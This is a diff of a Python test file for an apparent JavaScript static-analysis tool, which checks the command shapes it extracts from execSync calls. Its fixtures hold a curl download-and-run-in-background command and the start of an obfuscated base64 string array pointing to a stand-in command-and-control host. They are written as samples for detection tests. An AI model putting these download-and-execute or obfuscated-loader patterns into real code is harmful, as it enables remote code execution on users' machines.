@@ -639,11 +639,10 @@ def test_a_counted_loop_that_reassigns_a_constant_folds_each_turn_and_other_loop
 
 def test_a_command_template_filled_by_replace_is_the_command_it_makes():
     src = (b"var out = '/tmp/x'; require('child_process').execSync('curl -o {O} {U} && nohup {O} &'.replace(/\\{O\\}/g, out)"
-           b".replace(/\\{U\\}/g, url));\nuse('a.b.c'.replace('.', '-'), 'a.b.c'.replace(/\\./g, '-'), 'abc'.replace(/[ab]/g, 'x'));\n")
-    facts = extract("index.js", src).facts
-    run = next(f for f in facts if f.kind == "call" and f.value == "child_process.execSync")
-    assert run.shapes == ("curl -o /tmp/x ${*} && nohup /tmp/x &",)
-    assert next(f for f in facts if f.kind == "call" and f.value == "use").args == ("a-b.c", "a-b-c", None)
+           b".replace(/\\{U\\}/g, url));\nrequire('child_process').execSync('a.b.c'.replace('.', x) + 'abc'.replace(/[ab]/g, y));\n")
+    runs = [f for f in extract("index.js", src).facts if f.kind == "call" and f.value == "child_process.execSync"]
+    assert runs[0].shapes == ("curl -o ${*} ${*} && nohup ${*} &",)
+    assert runs[1].shapes == ("a${*}b.c${*}",)  # (one `.` replaced; a character class is not followed)
 
 
 STRING_ARRAY = (b"function _0xa(){var _a=['aHR0cHM6Ly9jMi5leGFtcGxlL3g=','aG9zdG5hbWU=','Y2hpbGRfcHJvY2Vzcw==','ZXhlY1N5bmM='];"
